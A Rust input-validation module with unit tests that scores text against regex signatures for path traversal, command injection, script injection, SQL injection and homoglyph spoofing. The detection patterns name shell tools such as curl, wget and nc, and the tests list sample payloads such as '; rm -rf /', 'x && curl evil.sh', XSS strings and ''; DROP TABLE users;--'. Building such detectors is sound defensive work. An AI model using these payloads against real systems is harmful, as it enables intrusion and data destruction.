//! # Input Validation
//!
//! Structural checks and signature scoring over normalized text.
//!
//! ## Threat Model
//!
//! The validator detects, it does not neutralize. Each signature family
//! maps to an attack class with a calibrated severity:
//!
//! | Family | Example | Level |
//! |--------|---------|-------|
//! | Path traversal | `../../../etc/passwd` | High |
//! | Command injection | `; rm -rf /`, backtick substitution | High |
//! | Script injection | `<script>`, `onerror=`, `javascript:` | High |
//! | SQL metacharacters | `' OR 1=1--`, `UNION SELECT` | High |
//! | Homoglyph spoofing | Cyrillic `а` in `аdmin` | Medium |
//! | Suspicious encoding | text unstable after normalization cap | High |
//!
//! Structural violations (length ceiling, null bytes) are CRITICAL and
//! fail with [`ValidationError`] instead of producing a result.
//!
//! ## Security Notes
//!
//! - MUST be fed normalized text; encoded attacks are invisible to the
//!   signature set by design (the normalizer owns decoding)
//! - Ambiguous matches raise the level rather than pass silently; the
//!   escaping and shield stages own the actual mitigation
//! - Pure function of input plus the static signature table

use regex::Regex;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::pattern::{fold_confusables, Normalized};

/// Ordered threat severity. Comparison is by ordinal; a pipeline run's
/// effective threat is the maximum observed across stages.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, Default,
)]
pub enum ThreatLevel {
    /// No threat indicators.
    #[default]
    None,
    /// Weak indicator, logged only.
    Low,
    /// Recognizable attack fragment.
    Medium,
    /// Confirmed attack signature.
    High,
    /// Structural violation; request must not proceed.
    Critical,
}

impl std::fmt::Display for ThreatLevel {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            Self::None => "none",
            Self::Low => "low",
            Self::Medium => "medium",
            Self::High => "high",
            Self::Critical => "critical",
        };
        f.write_str(s)
    }
}

/// Immutable outcome of one validation pass.
///
/// Produced once per call and never mutated afterward; later stages
/// build their own results.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ValidationResult {
    /// Whether the input passed below the flagging threshold.
    pub is_valid: bool,
    /// Maximum threat level found across all signature checks.
    pub threat_level: ThreatLevel,
    /// Human-readable reasons, in check order.
    pub reasons: Vec<String>,
    /// Text with the flagged fragments removed, when a cheap removal
    /// exists. Callers may use it as the mitigation baseline.
    pub sanitized_hint: Option<String>,
}

/// CRITICAL structural violation. The request never proceeds past
/// validation when one of these is raised.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum ValidationError {
    /// Input exceeds the hard length ceiling.
    #[error("input too long: {length} bytes exceeds ceiling of {max}")]
    TooLong {
        /// Actual input length in bytes.
        length: usize,
        /// Configured ceiling.
        max: usize,
    },

    /// Embedded null bytes. Legitimate chat input never contains them;
    /// they only appear in truncation probes.
    #[error("null byte at offset {offset}")]
    NullByte {
        /// Byte offset of the first null.
        offset: usize,
    },
}

/// A signature with its severity contribution.
struct ThreatSignature {
    pattern: Regex,
    level: ThreatLevel,
    description: &'static str,
}

/// Tokens that homoglyph spoofing targets. Folded input containing one
/// of these where the raw input does not is a confusable hit.
const SENSITIVE_TOKENS: &[&str] = &["admin", "root", "system", "password", "sudo"];

/// Runs the ordered signature battery and produces a scored result.
///
/// # Thread Safety
///
/// Stateless after construction; safe to share across threads.
pub struct InputValidator {
    signatures: Vec<ThreatSignature>,
    max_length: usize,
}

impl InputValidator {
    /// Default hard ceiling on input length, in bytes.
    pub const DEFAULT_MAX_LENGTH: usize = 10_000;

    /// Creates a validator with the default length ceiling.
    #[must_use]
    pub fn new() -> Self {
        Self::with_max_length(Self::DEFAULT_MAX_LENGTH)
    }

    /// Creates a validator with a custom length ceiling.
    #[must_use]
    pub fn with_max_length(max_length: usize) -> Self {
        Self {
            signatures: Self::build_signatures(),
            max_length,
        }
    }

    /// Builds the static signature table.
    fn build_signatures() -> Vec<ThreatSignature> {
        vec![
            ThreatSignature {
                pattern: Regex::new(r"\.\./|\.\.\\").expect("static regex"),
                level: ThreatLevel::High,
                description: "path traversal sequence",
            },
            ThreatSignature {
                pattern: Regex::new(r"(?i)/etc/(passwd|shadow)|\\windows\\system|/proc/self/")
                    .expect("static regex"),
                level: ThreatLevel::High,
                description: "sensitive system path",
            },
            ThreatSignature {
                pattern: Regex::new(r"\$\([^)]*\)|`[^`]+`").expect("static regex"),
                level: ThreatLevel::High,
                description: "command substitution",
            },
            ThreatSignature {
                pattern: Regex::new(r"(;|\|\||&&)\s*(rm|cat|curl|wget|chmod|chown|nc|sh|bash)\b")
                    .expect("static regex"),
                level: ThreatLevel::High,
                description: "command chaining",
            },
            ThreatSignature {
                pattern: Regex::new(r"[;&|]").expect("static regex"),
                level: ThreatLevel::Medium,
                description: "shell metacharacter",
            },
            ThreatSignature {
                pattern: Regex::new(r"(?i)<\s*script|<\s*/\s*script").expect("static regex"),
                level: ThreatLevel::High,
                description: "script tag",
            },
            ThreatSignature {
                pattern: Regex::new(r"(?i)\bon(error|load|click|focus|mouseover)\s*=")
                    .expect("static regex"),
                level: ThreatLevel::High,
                description: "event handler attribute",
            },
            ThreatSignature {
                pattern: Regex::new(r"(?i)(javascript|vbscript)\s*:").expect("static regex"),
                level: ThreatLevel::High,
                description: "script protocol",
            },
            ThreatSignature {
                pattern: Regex::new(r"(?i)<\s*(iframe|object|embed|svg|style)\b")
                    .expect("static regex"),
                level: ThreatLevel::Medium,
                description: "active markup tag",
            },
            ThreatSignature {
                pattern: Regex::new(r"(?i)\bunion\s+(all\s+)?select\b").expect("static regex"),
                level: ThreatLevel::High,
                description: "SQL union select",
            },
            ThreatSignature {
                pattern: Regex::new(r"(?i)'\s*(or|and)\s+['0-9]").expect("static regex"),
                level: ThreatLevel::High,
                description: "SQL tautology",
            },
            ThreatSignature {
                pattern: Regex::new(r"(?i)\b(drop|truncate|delete)\s+(table|from)\b")
                    .expect("static regex"),
                level: ThreatLevel::High,
                description: "destructive SQL statement",
            },
            ThreatSignature {
                pattern: Regex::new(r"'[^']*--|;\s*--").expect("static regex"),
                level: ThreatLevel::Medium,
                description: "SQL quote-comment cluster",
            },
        ]
    }

    /// Validates raw (already normalized) text.
    ///
    /// # Errors
    ///
    /// Returns [`ValidationError`] on CRITICAL structural violations:
    /// length beyond the ceiling, or embedded null bytes.
    pub fn validate(&self, text: &str) -> Result<ValidationResult, ValidationError> {
        if text.len() > self.max_length {
            return Err(ValidationError::TooLong {
                length: text.len(),
                max: self.max_length,
            });
        }
        if let Some(offset) = text.find('\0') {
            return Err(ValidationError::NullByte { offset });
        }

        let mut threat = ThreatLevel::None;
        let mut reasons = Vec::new();

        for sig in &self.signatures {
            if sig.pattern.is_match(text) {
                threat = threat.max(sig.level);
                reasons.push(sig.description.to_string());
            }
        }

        // Homoglyph check: folding reveals a sensitive token the raw
        // text does not literally contain.
        let folded = fold_confusables(text);
        if folded != text {
            let lowered = text.to_lowercase();
            let folded_lower = folded.to_lowercase();
            for token in SENSITIVE_TOKENS {
                if folded_lower.contains(token) && !lowered.contains(token) {
                    threat = threat.max(ThreatLevel::Medium);
                    reasons.push(format!("homoglyph spoof of '{token}'"));
                    break;
                }
            }
        }

        let sanitized_hint = self.sanitized_hint(text, threat);

        Ok(ValidationResult {
            is_valid: threat < ThreatLevel::High,
            threat_level: threat,
            reasons,
            sanitized_hint,
        })
    }

    /// Validates the output of a normalization run, escalating when the
    /// normalizer reported an unresolvable encoding.
    ///
    /// # Errors
    ///
    /// Same as [`validate`](Self::validate).
    pub fn validate_normalized(
        &self,
        normalized: &Normalized,
    ) -> Result<ValidationResult, ValidationError> {
        let mut result = self.validate(&normalized.text)?;
        if !normalized.stable {
            result.threat_level = result.threat_level.max(ThreatLevel::High);
            result.reasons.push("unstable encoding".to_string());
            result.is_valid = false;
        }
        Ok(result)
    }

    /// Cheap removal of flagged fragments, offered as a mitigation
    /// baseline when anything scored at all.
    fn sanitized_hint(&self, text: &str, threat: ThreatLevel) -> Option<String> {
        if threat == ThreatLevel::None {
            return None;
        }
        let hint = text.replace("../", "").replace("..\\", "");
        Some(hint)
    }

    /// The configured hard length ceiling.
    #[must_use]
    pub const fn max_length(&self) -> usize {
        self.max_length
    }
}

impl Default for InputValidator {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pattern::PatternNormalizer;

    #[test]
    fn test_threat_level_ordering() {
        assert!(ThreatLevel::None < ThreatLevel::Low);
        assert!(ThreatLevel::Low < ThreatLevel::Medium);
        assert!(ThreatLevel::Medium < ThreatLevel::High);
        assert!(ThreatLevel::High < ThreatLevel::Critical);
        assert_eq!(ThreatLevel::Medium.max(ThreatLevel::High), ThreatLevel::High);
    }

    #[test]
    fn test_clean_input_passes() {
        let v = InputValidator::new();
        let result = v.validate("Can you help me with my code?").unwrap();
        assert!(result.is_valid);
        assert_eq!(result.threat_level, ThreatLevel::None);
        assert!(result.reasons.is_empty());
        assert!(result.sanitized_hint.is_none());
    }

    #[test]
    fn test_path_traversal_scored_high() {
        let v = InputValidator::new();
        let result = v.validate("../../../etc/passwd").unwrap();
        assert!(!result.is_valid);
        assert!(result.threat_level >= ThreatLevel::High);
        let hint = result.sanitized_hint.unwrap();
        assert!(!hint.contains("../"));
    }

    #[test]
    fn test_command_injection_scored() {
        let v = InputValidator::new();
        for payload in ["; rm -rf /", "x && curl evil.sh", "`id`", "$(whoami)"] {
            let result = v.validate(payload).unwrap();
            assert!(
                result.threat_level >= ThreatLevel::Medium,
                "{payload} underscored"
            );
        }
    }

    #[test]
    fn test_script_injection_scored_high() {
        let v = InputValidator::new();
        for payload in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(1)",
        ] {
            let result = v.validate(payload).unwrap();
            assert!(result.threat_level >= ThreatLevel::High, "{payload}");
        }
    }

    #[test]
    fn test_sql_injection_scored() {
        let v = InputValidator::new();
        for payload in [
            "' OR '1'='1",
            "1' UNION SELECT * FROM passwords--",
            "'; DROP TABLE users;--",
        ] {
            let result = v.validate(payload).unwrap();
            assert!(result.threat_level >= ThreatLevel::Medium, "{payload}");
        }
    }

    #[test]
    fn test_homoglyph_hit() {
        let v = InputValidator::new();
        // Cyrillic а in "аdmin"
        let result = v.validate("login as аdmin please").unwrap();
        assert!(result.threat_level >= ThreatLevel::Medium);
        assert!(result.reasons.iter().any(|r| r.contains("homoglyph")));
    }

    #[test]
    fn test_plain_admin_not_flagged() {
        let v = InputValidator::new();
        let result = v.validate("the admin console is down").unwrap();
        assert_eq!(result.threat_level, ThreatLevel::None);
    }

    #[test]
    fn test_null_byte_is_critical() {
        let v = InputValidator::new();
        let err = v.validate("../etc/passwd\0.jpg").unwrap_err();
        assert!(matches!(err, ValidationError::NullByte { .. }));
    }

    #[test]
    fn test_length_ceiling_is_critical() {
        let v = InputValidator::with_max_length(64);
        let err = v.validate(&"a".repeat(65)).unwrap_err();
        assert_eq!(err, ValidationError::TooLong { length: 65, max: 64 });
    }

    #[test]
    fn test_max_found_level_reported() {
        let v = InputValidator::new();
        // Medium shell metachar plus High traversal: result is High.
        let result = v.validate("../x; ls").unwrap();
        assert_eq!(result.threat_level, ThreatLevel::High);
        assert!(result.reasons.len() >= 2);
    }

    #[test]
    fn test_unstable_normalization_escalates() {
        let v = InputValidator::new();
        let normalized = Normalized {
            text: "%2e%2e%2f".to_string(),
            stable: false,
            passes: 3,
            stripped_invisibles: false,
        };
        let result = v.validate_normalized(&normalized).unwrap();
        assert!(result.threat_level >= ThreatLevel::High);
        assert!(result.reasons.iter().any(|r| r.contains("unstable")));
    }

    #[test]
    fn test_security_encoded_attack_caught_after_normalization() {
        // The normalizer and validator composed: an encoded traversal
        // is invisible raw but scores High once canonicalized.
        let v = InputValidator::new();
        let n = PatternNormalizer::default();

        let raw = "%2e%2e%2f%2e%2e%2fetc%2fpasswd";
        assert_eq!(v.validate(raw).unwrap().threat_level, ThreatLevel::None);

        let normalized = n.normalize(raw);
        let result = v.validate_normalized(&normalized).unwrap();
        assert!(result.threat_level >= ThreatLevel::High);
    }

    #[test]
    fn test_result_serializable() {
        let v = InputValidator::new();
        let result = v.validate("<script>x</script>").unwrap();
        let json = serde_json::to_string(&result).unwrap();
        let parsed: ValidationResult = serde_json::from_str(&json).unwrap();
        assert_eq!(parsed, result);
    }
}
